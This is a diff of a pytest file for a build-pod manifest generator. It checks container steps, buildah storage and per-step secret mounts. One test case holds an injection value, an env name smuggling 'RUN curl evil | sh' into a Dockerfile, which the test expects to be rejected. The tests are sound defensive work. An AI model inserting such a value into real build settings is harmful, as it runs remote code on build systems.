@@ -154,12 +154,19 @@ def test_pod_name_of_a_long_build_is_cut_and_hashed_as_openshift() -> None:
 def test_containers_and_steps(strategy: dict[str, Any], main: str) -> None:
     pod = pod_for(strategy)
     steps = {c["name"]: c["command"] for c in containers(pod)}
-    assert [c["name"] for c in pod["spec"]["initContainers"]] == ["git-clone", "manage-dockerfile"]
+    assert [c["name"] for c in pod["spec"]["initContainers"]] == [
+        "git-clone",
+        "manage-dockerfile",
+        "pull-images",
+        "build-image",
+    ]
     assert [c["name"] for c in pod["spec"]["containers"]] == [main]
     assert steps == {
         "git-clone": ["kbuild", "pipeline", "fetch"],
         "manage-dockerfile": ["kbuild", "pipeline", "prepare"],
-        main: ["kbuild", "pipeline", "build"],
+        "pull-images": ["kbuild", "pipeline", "pull"],
+        "build-image": ["kbuild", "pipeline", "build"],
+        main: ["kbuild", "pipeline", "push"],
     }
     for container in containers(pod):
         assert container["image"] == IMAGE
@@ -239,19 +246,20 @@ def test_nothing_privileged_and_nothing_from_the_host(strategy: dict[str, Any]) 
     assert pod["spec"]["securityContext"]["runAsUser"] != 0
 
 
-def test_buildah_storage_is_an_empty_dir_on_the_main_container_only() -> None:
+def test_buildah_storage_is_an_empty_dir_on_the_buildah_containers_only() -> None:
     pod = pod_for()
     volumes = {v["name"]: v for v in pod["spec"]["volumes"]}
     assert volumes["container-storage-root"] == {
         "name": "container-storage-root", "emptyDir": {"sizeLimit": "20Gi"},
     }  # fmt: skip
     assert volumes["buildworkdir"] == {"name": "buildworkdir", "emptyDir": {"sizeLimit": "4Gi"}}
-    main = by_name(pod, "sti-build")
-    assert {
-        "name": "container-storage-root",
-        "mountPath": "/home/build/.local/share/containers",
-    } in main["volumeMounts"]
-    assert env_of(main)["BUILDAH_ISOLATION"] == "chroot"
+    for name in ("pull-images", "build-image", "sti-build"):
+        container = by_name(pod, name)
+        assert {
+            "name": "container-storage-root",
+            "mountPath": "/home/build/.local/share/containers",
+        } in container["volumeMounts"]
+        assert env_of(container)["BUILDAH_ISOLATION"] == "chroot"
     for name in ("git-clone", "manage-dockerfile"):
         mounts = [m["name"] for m in by_name(pod, name)["volumeMounts"]]
         assert "container-storage-root" not in mounts
@@ -329,16 +337,36 @@ def test_source_secret_only_where_the_source_is_fetched() -> None:
         assert all(m["name"] != "source-secret" for m in container["volumeMounts"])
 
 
+SECRET_MOUNTS = {
+    "source-secret": ("SOURCE_SECRET_PATH", "/var/run/secrets/openshift.io/source"),
+    "pull-secret": ("PULL_DOCKERCFG_PATH", "/var/run/secrets/openshift.io/pull"),
+    "push-secret": ("PUSH_DOCKERCFG_PATH", "/var/run/secrets/openshift.io/push"),
+}
+
+
+INCREMENTAL = {
+    "sourceStrategy": {"from": {"kind": "DockerImage", "name": BUILDER}, "incremental": True}
+}
+
+
 @pytest.mark.parametrize(
-    ("strategy", "main"), [(SOURCE_RESOLVED, "sti-build"), (DOCKER, "docker-build")]
-)
-def test_pull_and_push_secrets_are_authfiles_for_prepare_and_build(
-    strategy: dict[str, Any], main: str
+    ("strategy", "main", "pull_also_gets_push"),
+    [(SOURCE_RESOLVED, "sti-build", False), (DOCKER, "docker-build", False),
+     (INCREMENTAL, "sti-build", True)],
+)  # fmt: skip
+def test_each_secret_is_mounted_only_where_its_step_needs_it(
+    strategy: dict[str, Any], main: str, pull_also_gets_push: bool
 ) -> None:
+    """Which container mounts what (builder.pipeline.steps has the why).
+
+    manage-dockerfile reads the committer's files (.s2i/*, the Dockerfile)
+    and build-image runs the committer's code: neither gets any secret.
+    """
     with_pull = copy.deepcopy(strategy)
     next(iter(with_pull.values()))["pullSecret"] = {"name": "pull-creds"}
     pod = pod_for(
         with_pull,
+        source={"git": {"uri": "https://git.test/app.git"}, "sourceSecret": {"name": "git-creds"}},
         output={
             "to": {"kind": "DockerImage", "name": OUTPUT},
             "pushSecret": {"name": "push-creds"},
@@ -347,19 +375,32 @@ def test_pull_and_push_secrets_are_authfiles_for_prepare_and_build(
     volumes = {
         v["name"]: v["secret"]["secretName"] for v in pod["spec"]["volumes"] if "secret" in v
     }
-    assert volumes == {"pull-secret": "pull-creds", "push-secret": "push-creds"}
-    for name in ("manage-dockerfile", main):
+    assert volumes == {
+        "source-secret": "git-creds",
+        "pull-secret": "pull-creds",
+        "push-secret": "push-creds",
+    }
+    expected = {
+        "git-clone": {"source-secret"},
+        "manage-dockerfile": set(),  # reads the committer's files
+        # An incremental build's previous image is in the output repository.
+        "pull-images": {"pull-secret", "push-secret"} if pull_also_gets_push else {"pull-secret"},
+        "build-image": set(),  # runs assemble, RUN lines, the post-commit hook
+        main: {"push-secret"},
+    }
+    assert {c["name"] for c in containers(pod)} == set(expected)
+    for name, secrets in expected.items():
         container = by_name(pod, name)
-        env = env_of(container)
-        assert env["PULL_DOCKERCFG_PATH"] == "/var/run/secrets/openshift.io/pull"
-        assert env["PUSH_DOCKERCFG_PATH"] == "/var/run/secrets/openshift.io/push"
         mounts = {m["name"]: m for m in container["volumeMounts"]}
-        assert mounts["pull-secret"]["mountPath"] == "/var/run/secrets/openshift.io/pull"
-        assert mounts["push-secret"]["mountPath"] == "/var/run/secrets/openshift.io/push"
-        assert mounts["push-secret"]["readOnly"] is True
-    clone_env = env_of(by_name(pod, "git-clone"))
-    assert "PULL_DOCKERCFG_PATH" not in clone_env
-    assert "PUSH_DOCKERCFG_PATH" not in clone_env
+        assert set(mounts) & set(SECRET_MOUNTS) == secrets, name
+        env = env_of(container)
+        for secret, (variable, path) in SECRET_MOUNTS.items():
+            if secret in secrets:
+                assert mounts[secret] == {"name": secret, "mountPath": path, "readOnly": True}
+                assert env[variable] == path
+            else:
+                assert variable not in env, (name, variable)
+                assert all(path not in e["value"] for e in container["env"]), (name, path)
 
 
 def test_no_secrets_no_secret_volumes() -> None:
@@ -404,6 +445,29 @@ def test_manifest_is_a_valid_pod_for_the_kubernetes_client() -> None:
             ),
             "CannotCreateBuildPodSpec",
             "customStrategy",
+        ),
+        # An env name that would add a Dockerfile line (a webhook's allowEnv
+        # env lands in the strategy's env): refused before any pod exists.
+        (
+            make_build(
+                {
+                    "sourceStrategy": {
+                        "from": {"kind": "DockerImage", "name": BUILDER},
+                        "env": [{"name": "X=1\nRUN curl evil | sh", "value": "v"}],
+                    }
+                },
+                resolved=True,
+            ),
+            "ManageDockerfileFailed",
+            "sourceStrategy env name 'X=1\\nRUN curl evil | sh'",
+        ),
+        (
+            make_build(
+                {"dockerStrategy": {"env": [{"name": "A B", "value": "v"}]}},
+                resolved=True,
+            ),
+            "ManageDockerfileFailed",
+            "dockerStrategy env name 'A B'",
         ),
     ],
 )
